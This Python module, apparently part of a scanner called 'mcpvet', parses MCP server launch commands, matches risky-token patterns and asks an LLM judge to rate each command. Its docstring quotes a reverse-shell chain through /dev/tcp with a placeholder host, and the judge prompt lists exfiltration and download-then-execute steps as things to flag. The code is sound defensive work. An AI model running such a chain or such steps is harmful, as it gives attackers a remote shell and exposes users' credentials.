"""Malicious launch-command detection: parse, anchor risky tokens, judge.

The shell grammar is deliberately small: control operators
(&&, ||, ;, |, &), single/double quotes, and $(...)/backtick substitutions
treated as opaque atoms. Redirections stay inside their segment, so the
classic reverse-shell chain "a && bash -i >& /dev/tcp/host/port 0>&1"
splits into exactly two segments.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from importlib import resources
from pathlib import Path

from .llm import LlmBackend, LlmRequest, parse_json_reply

CONTROL_OPERATORS = ("&&", "||", ";", "|", "&")
CATEGORIES = ("shell_meta", "network", "encoding", "suspicious_utility", "sensitive_path")


class PatternLoadError(Exception):
    pass


@dataclass
class CommandSegments:
    segments: list[str]
    operators: list[str]
    warnings: list[str] = field(default_factory=list)

    def rejoin(self) -> str:
        if not self.segments:
            return ""
        parts = [self.segments[0]]
        for op, seg in zip(self.operators, self.segments[1:]):
            parts.append(op)
            parts.append(seg)
        return " ".join(p for p in parts if p != "").strip()


@dataclass
class RiskyToken:
    token: str
    category: str
    span: tuple[int, int]


@dataclass
class ConfigVerdict:
    verdict: str  # benign | suspicious | malicious
    evidence: str

    def __post_init__(self):
        if self.verdict == "malicious" and not self.evidence:
            raise ValueError("malicious verdict requires evidence")


def normalize_ws(text: str) -> str:
    return " ".join(text.split())


def parse_command(raw: str) -> CommandSegments:
    """Split a shell command line into sub-commands and control operators.

    Quoting and substitutions protect their contents from splitting. An
    unterminated quote or substitution is reported as a warning and the
    whole remainder becomes part of the current segment.
    """
    segments: list[str] = []
    operators: list[str] = []
    warnings: list[str] = []
    current: list[str] = []
    i = 0
    n = len(raw)
    while i < n:
        ch = raw[i]
        if ch == "'" or ch == '"':
            end = _scan_quote(raw, i, ch)
            if end is None:
                warnings.append(f"unterminated quote {ch} at offset {i}")
                current.append(raw[i:])
                i = n
                break
            current.append(raw[i:end])
            i = end
        elif ch == "`":
            end = _scan_quote(raw, i, "`")
            if end is None:
                warnings.append(f"unterminated backtick substitution at offset {i}")
                current.append(raw[i:])
                i = n
                break
            current.append(raw[i:end])
            i = end
        elif ch == "$" and i + 1 < n and raw[i + 1] == "(":
            end = _scan_subst(raw, i)
            if end is None:
                warnings.append(f"unterminated $() substitution at offset {i}")
                current.append(raw[i:])
                i = n
                break
            current.append(raw[i:end])
            i = end
        elif ch == "\\" and i + 1 < n:
            current.append(raw[i : i + 2])
            i += 2
        elif ch == "&":
            if raw[i : i + 2] == "&&":
                _flush(segments, operators, current, "&&")
                i += 2
            elif raw[i : i + 2] == "&>":
                # redirection, not a control operator
                current.append("&>")
                i += 2
            elif _prev_nonspace(raw, i) == ">":
                current.append("&")  # part of >& redirection
                i += 1
            else:
                _flush(segments, operators, current, "&")
                i += 1
        elif ch == "|":
            if raw[i : i + 2] == "||":
                _flush(segments, operators, current, "||")
                i += 2
            else:
                _flush(segments, operators, current, "|")
                i += 1
        elif ch == ";":
            _flush(segments, operators, current, ";")
            i += 1
        else:
            current.append(ch)
            i += 1
    segments.append(normalize_ws("".join(current)))
    return CommandSegments(segments=segments, operators=operators, warnings=warnings)


def _flush(segments, operators, current, op):
    segments.append(normalize_ws("".join(current)))
    operators.append(op)
    current.clear()


def _prev_nonspace(raw: str, i: int) -> str:
    j = i - 1
    while j >= 0 and raw[j] == " ":
        j -= 1
    return raw[j] if j >= 0 else ""


def _scan_quote(raw: str, start: int, quote: str) -> int | None:
    """Return the index one past the closing quote, or None if unterminated."""
    i = start + 1
    while i < len(raw):
        if quote != "'" and raw[i] == "\\":
            i += 2
            continue
        if raw[i] == quote:
            return i + 1
        i += 1
    return None


def _scan_subst(raw: str, start: int) -> int | None:
    """Scan $( ... ) with nesting; returns index past the closing paren."""
    depth = 0
    i = start + 1  # at '('
    while i < len(raw):
        ch = raw[i]
        if ch == "(":
            depth += 1
        elif ch == ")":
            depth -= 1
            if depth == 0:
                return i + 1
        elif ch in "'\"":
            end = _scan_quote(raw, i, ch)
            if end is None:
                return None
            i = end
            continue
        i += 1
    return None


# -- risky token extraction ------------------------------------------------


@dataclass
class PatternSet:
    """Category-tagged regex patterns, one per line in the source file."""

    patterns: list[tuple[str, re.Pattern]]

    @classmethod
    def load(cls, path: str | Path) -> "PatternSet":
        patterns = []
        with open(path, encoding="utf-8") as fh:
            for lineno, line in enumerate(fh, 1):
                line = line.strip()
                if not line or line.startswith("#"):
                    continue
                if ":" not in line:
                    raise PatternLoadError(f"{path}:{lineno}: expected 'category: pattern'")
                category, _, pattern = line.partition(":")
                category = category.strip()
                pattern = pattern.strip()
                if category not in CATEGORIES:
                    raise PatternLoadError(f"{path}:{lineno}: unknown category {category!r}")
                try:
                    compiled = re.compile(pattern)
                except re.error as exc:
                    raise PatternLoadError(f"{path}:{lineno}: bad regex: {exc}") from exc
                patterns.append((category, compiled))
        return cls(patterns)

    @classmethod
    def default(cls) -> "PatternSet":
        ref = resources.files("mcpvet").joinpath("data/default_patterns.txt")
        with resources.as_file(ref) as path:
            return cls.load(path)


def extract_risky_tokens(raw: str, patterns: PatternSet) -> list[RiskyToken]:
    """Every pattern match once, with its byte span, ordered by span start.

    Matches inside quotes are still reported: obfuscation behind quoting is
    exactly what the anchors are for.
    """
    found = []
    seen = set()
    for category, pattern in patterns.patterns:
        for match in pattern.finditer(raw):
            key = (match.start(), match.end(), category)
            if key in seen:
                continue
            seen.add(key)
            found.append(
                RiskyToken(token=match.group(0), category=category,
                           span=(match.start(), match.end()))
            )
    found.sort(key=lambda t: (t.span[0], t.span[1], t.category))
    return found


# -- LLM judging -------------------------------------------------------------

JUDGE_SYSTEM = """\
You are a security analyst reviewing the launch command of an MCP server
configuration. You get the command split into ordered sub-commands with
their control operators, plus a list of risky tokens found by pattern
matching. Decide whether the command does anything beyond installing
dependencies and starting the server.

Flag as malicious or suspicious, for example:
- exfiltration, credential harvesting, persistence, or destructive steps
  (deleting user files, touching SSH keys or shell profiles);
- download-then-execute chains, especially curl/wget piped into a shell;
- network or filesystem activity unrelated to setup;
- encoding/obfuscation (base64 and friends) hiding what actually runs.
If risky tokens are present, explain how each is used. Plain dependency
installation followed by starting the server is benign on its own.

Reply with a JSON object: {"verdict": "benign"|"suspicious"|"malicious",
"evidence": "<justification quoting the relevant command fragments>"}.
"""


def judge_command(segs: CommandSegments, tokens: list[RiskyToken],
                  llm: LlmBackend) -> ConfigVerdict:
    """LLM verdict over parsed segments and anchored tokens.

    Malformed output is retried once, then mapped to suspicious so a flaky
    judge fails toward review rather than silence.
    """
    token_lines = [f"- {t.token!r} ({t.category}, bytes {t.span[0]}..{t.span[1]})"
                   for t in tokens] or ["(none)"]
    seg_lines = []
    for idx, seg in enumerate(segs.segments):
        seg_lines.append(f"{idx + 1}. {seg}")
        if idx < len(segs.operators):
            seg_lines.append(f"   operator: {segs.operators[idx]}")
    user = (
        "Command statements:\n" + "\n".join(seg_lines)
        + "\n\nSensitive tokens:\n" + "\n".join(token_lines)
    )
    req = LlmRequest(
        messages=[{"role": "system", "content": JUDGE_SYSTEM},
                  {"role": "user", "content": user}],
        purpose="config_judge",
    )
    for _ in range(2):
        reply = llm.complete(req)
        parsed = parse_json_reply(reply)
        if parsed and "verdict" in parsed:
            verdict = str(parsed.get("verdict", "")).strip().lower()
            evidence = str(parsed.get("evidence", ""))
            if verdict not in ("benign", "suspicious", "malicious"):
                verdict = "suspicious"  # fail toward review
                evidence = evidence or f"unrecognized verdict {parsed.get('verdict')!r}"
            if verdict == "malicious" and not evidence:
                evidence = "judge returned malicious without evidence"
            return ConfigVerdict(verdict=verdict, evidence=evidence)
    return ConfigVerdict(verdict="suspicious", evidence="unparseable judge output")


def analyze_config(spec, llm: LlmBackend, patterns: PatternSet | None = None) -> ConfigVerdict:
    """Pre-spawn gate: a malicious verdict here stops the scan before launch.

    Only command+args are parsed and judged; env values are scanned for
    risky tokens but never segmented.
    """
    patterns = patterns or PatternSet.default()
    raw = spec.command_line()
    segs = parse_command(raw)
    tokens = extract_risky_tokens(raw, patterns)
    for key, value in sorted(spec.env.items()):
        for token in extract_risky_tokens(value, patterns):
            tokens.append(
                RiskyToken(token=token.token, category=token.category, span=token.span)
            )
    return judge_command(segs, tokens, llm)


def verdict_to_dict(v: ConfigVerdict) -> dict:
    return {"verdict": v.verdict, "evidence": v.evidence}


def tokens_to_dict(tokens: list[RiskyToken]) -> list[dict]:
    return [
        {"token": t.token, "category": t.category, "span": list(t.span)}
        for t in tokens
    ]
